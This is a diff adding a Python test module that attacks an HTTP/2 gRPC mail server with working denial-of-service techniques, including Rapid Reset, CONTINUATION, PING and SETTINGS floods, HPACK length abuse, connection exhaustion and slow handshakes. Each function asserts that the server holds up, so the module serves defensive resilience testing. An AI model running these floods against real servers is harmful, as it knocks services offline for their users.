@@ -1,0 +1,262 @@
+"""The attacks. Each answers what it saw and the connections that it holds on to,
+and asserts what the server replied. In the long form they do far more."""
+import collections
+import threading
+import time
+
+from peer import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING,
+                  RST_STREAM, SETTINGS, PREFACE, Client, Raw, block,
+                  call_headers, connect, frame, message, text_field)
+
+LIST = "Mail/List"
+COUNT = ("Mail/Count", b"\x08\x01")  # the inbox
+WHOLE_INBOX = b"\x08\x01\x30\x01"  # ListRequest: box, with_body
+
+
+def token():
+    with open("token", encoding="utf-8") as file:
+        return file.read().strip()
+
+
+def pour(raw, data, times):
+    """How often the server took it."""
+    for taken in range(times):
+        if not raw.send(data, 3):
+            return taken
+    return times
+
+
+# --- Frames ---
+
+
+def rapid_reset(long):
+    """CVE-2023-44487: calls that are broken off as soon as they are made."""
+    count = 50_000 if long else 5_000
+    headers = block(call_headers(LIST))
+    raw = Raw()
+    for first in range(1, 2 * count, 1000):
+        calls = b"".join(
+            frame(HEADERS, END_HEADERS, stream, headers)
+            + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
+            for stream in range(first, first + 1000, 2))
+        if not raw.send(calls):
+            break
+    return f"{first // 2} resets", [raw]
+
+
+def continuation_flood(long):
+    """A header block that has no end (VU#421644)."""
+    raw = Raw()
+    raw.send(frame(HEADERS, 0, 1, block(call_headers(LIST))))
+    piece = frame(CONTINUATION, 0, 1, block([("x-more", "a" * 100)] * 10)) * 50
+    taken = pour(raw, piece, 4000 if long else 100)
+    return f"{taken * 50} frames", [raw]
+
+
+def ping_flood(long):
+    """CVE-2019-9512: pings whose answers nobody reads."""
+    raw = Raw()
+    taken = pour(raw, frame(PING, 0, 0, b"12345678") * 1000,
+                 5000 if long else 200)
+    return f"{taken * 1000} pings", [raw]
+
+
+def settings_flood(long):
+    """CVE-2019-9515: settings whose acknowledgements nobody reads."""
+    raw = Raw()
+    taken = pour(raw, frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 1000,
+                 5000 if long else 200)
+    return f"{taken * 1000} frames", [raw]
+
+
+# --- Headers ---
+
+
+def bad_headers(long):
+    """What no client sends: each call is refused, and the next one served."""
+    told = collections.Counter()
+    for wrong in ({"te": None}, {"te": "gzip"}, {"__path": None},
+                  {"__path": "turbomessage"}, {"__path": "/" + "x" * 4000},
+                  {"__method": "GET"}, {"__method": "BREW"},
+                  {"__scheme": None}, {"__authority": None},
+                  {"content_type": None}, {"content_type": "text/html"},
+                  {"authorization": "Bearer"}, {"authorization": "\0"},
+                  {"grpc_timeout": "soon"}, {"grpc_timeout": "9" * 40 + "H"},
+                  {"grpc_encoding": "brew"}, {"x_bin": "=not base64="},
+                  {"X-Upper": "x"}, {"connection": "close"}):
+        client = Client()
+        status = client.call(LIST, seconds=5, **wrong)
+        assert status not in (0, "silent"), f"{wrong}: {status}"
+        told[status] += 1
+        client.close()
+    client = Client()
+    assert client.call(*COUNT, token()) == 0
+    return f"refused with {dict(told)}", [client]
+
+
+def huge_metadata(long):
+    """More metadata than a call may have: that call is refused, or all of its
+    connection."""
+    told = collections.Counter()
+    for _ in range(100 if long else 10):
+        client = Client()
+        status = client.call(*COUNT, token(), seconds=5, x_more="a" * 9000)
+        assert status not in (0, "silent"), status
+        told[status] += 1
+        client.close()
+    raw = Raw()
+    data = block(call_headers(LIST) + [("x-more", "a" * 60_000)] * 10)
+    for stream in range(1, 200 if long else 20, 2):
+        raw.send(frame(HEADERS, END_STREAM, stream, data[:16_000]) + b"".join(
+            frame(CONTINUATION, 0, stream, data[at:at + 16_000])
+            for at in range(16_000, len(data), 16_000)
+        ) + frame(CONTINUATION, END_HEADERS, stream))
+    raw.closed(0.2)
+    return f"refused with {dict(told)}", [raw]
+
+
+def aborting_headers(long):
+    """CVE-2023-1428: one that is wrong, and then more than 8 KiB."""
+    for name, value in (("te", "x"), (":scheme", "x"),
+                        ("grpclb_client_stats", "x")):
+        rest = [(k, v) for k, v in call_headers(LIST) if k != name]
+        data = block([(name, value), *rest, ("x-more", "a" * 7000),
+                      ("x-yet-more", "b" * 7000)])
+        raw = Raw()
+        raw.send(frame(HEADERS, END_STREAM, 1, data[:10_000])
+                 + frame(CONTINUATION, END_HEADERS, 1, data[10_000:]))
+        raw.closed(0.2)
+        raw.close()
+    return "no abort", []
+
+
+def long_string(long):
+    """CVE-2023-33953: a header said to have 1 GiB, of which 2 MiB come. The
+    time for it grows with the square of that: 32 MiB take minutes."""
+    raw = Raw()
+    raw.send(frame(HEADERS, 0, 1, b"\0\x01x\x7f\x81\xff\xff\xff\x03"))
+    taken = pour(raw, frame(CONTINUATION, 0, 1, b"a" * 16384), 128)
+    return f"{taken * 16} KiB taken", [raw]
+
+
+def endless_number(long):
+    """CVE-2023-33953: a length written with zeros that never end."""
+    raw = Raw()
+    raw.send(frame(HEADERS, 0, 1, b"\0\x01x\x7f"))
+    taken = pour(raw, frame(CONTINUATION, 0, 1, b"\x80" * 16384), 128)
+    return f"{taken * 16} KiB taken", [raw]
+
+
+# --- Connections ---
+
+
+def connection_flood(long):
+    """More connections than the server may have files; the honest user comes by
+    a Unix socket, and others by TCP again as soon as it is over."""
+    held = []
+    for _ in range(200):
+        try:
+            held.append(connect(1))
+        except OSError:
+            break
+    assert len(held) > 64, "the server has more files than the test expects"
+    time.sleep(0.2)
+    for connection in held:
+        connection.close()
+    end = time.monotonic() + 10
+    while (status := try_call()) != 0:
+        assert time.monotonic() < end, f"deaf after the flood: {status}"
+    return f"{len(held)} connections", []
+
+
+def try_call():
+    try:
+        client = Client()
+    except OSError as error:
+        return str(error)
+    with client.socket:
+        return client.call(*COUNT, token(), seconds=2)
+
+
+def slow_handshakes(long):
+    """Half a preface, or one byte of it at a time. The server gives them 10
+    seconds, which only the long form waits for."""
+    held = [connect() for _ in range(400 if long else 100)]
+    for connection in held[::2]:
+        connection.sendall(PREFACE[:12])
+    begun = time.monotonic()
+    for byte in PREFACE[:20]:
+        for connection in held[1::2]:
+            connection.sendall(bytes([byte]))
+        time.sleep(0.3 if long else 0.02)
+    if long:
+        for connection in held:
+            connection.settimeout(begun + 20 - time.monotonic())
+            try:
+                while connection.recv(4096):
+                    pass
+            except ConnectionError:
+                pass
+    return f"{len(held)} handshakes", held
+
+
+# --- Calls ---
+
+
+def half_requests(long):
+    """Calls by strangers, in which the end of a long message never comes."""
+    count = 900 if long else 100
+    headers = block(call_headers("Accounts/Login"))
+    begin = frame(DATA, 0, 1, b"\0\0\x3f\xff\xff" + b"a" * 16000)
+    raws = [Raw() for _ in range(4 if long else 1)]
+    for raw in raws:
+        threading.Thread(target=raw.closed, args=(60,), daemon=True).start()
+        for stream in range(1, 2 * count, 2):
+            raw.send(frame(HEADERS, END_HEADERS, stream, headers)
+                     + begin[:5] + stream.to_bytes(4, "big") + begin[9:], 2)
+        for stream in range(1, 2 * count, 2):
+            pour(raw, frame(DATA, 0, stream, b"a" * 16000), 16)
+    return f"{count} calls on each of {len(raws)} connections", raws
+
+
+def login_flood(long):
+    """More logins than are computed at once; none gets in, all are told."""
+    count = 900 if long else 400
+    clients = [Client() for _ in range(4 if long else 1)]
+    told = collections.Counter()
+    for client in clients:
+        for index in range(count):
+            client.open(call_headers("Accounts/Login"), message(
+                text_field(1, "ana") + text_field(2, f"wrong {index}")))
+    for client in clients:
+        client.pump(60, lambda c=client: len(c.statuses) == count)
+        told.update(client.statuses.values())
+    assert sum(told.values()) == count * len(clients), f"not all: {told}"
+    assert 0 not in told and 8 in told, f"statuses {told}"
+    return f"refused with {dict(told)}", clients
+
+
+def zero_window(long):
+    """A user who asks for replies of 1 MB, again and again, and takes none."""
+    clients = [Client(window=0) for _ in range(2)]
+    for client in clients:
+        for _ in range(100):
+            client.open(call_headers(LIST, token()), message(WHOLE_INBOX))
+        client.pump(0.3)
+        assert not client.statuses, "the replies went through"
+    return "200 replies", clients
+
+
+def unread_watches(long):
+    """A user with 100 watches from the oldest mail on, who reads none. Theirs
+    ends after a minute, which only the long form waits for."""
+    client = Client(window=0)
+    for _ in range(100):
+        client.open(call_headers("Mail/Watch", token()),
+                    message(b"\x08\x01\x1a\x00"), end=False)
+    if long:
+        client.pump(90, lambda: len(client.statuses) == 100)
+        assert len(client.statuses) == 100, "watches that never end"
+    else:
+        client.pump(0.5)
+    return f"{len(client.statuses)} of 100 watches ended", [client]
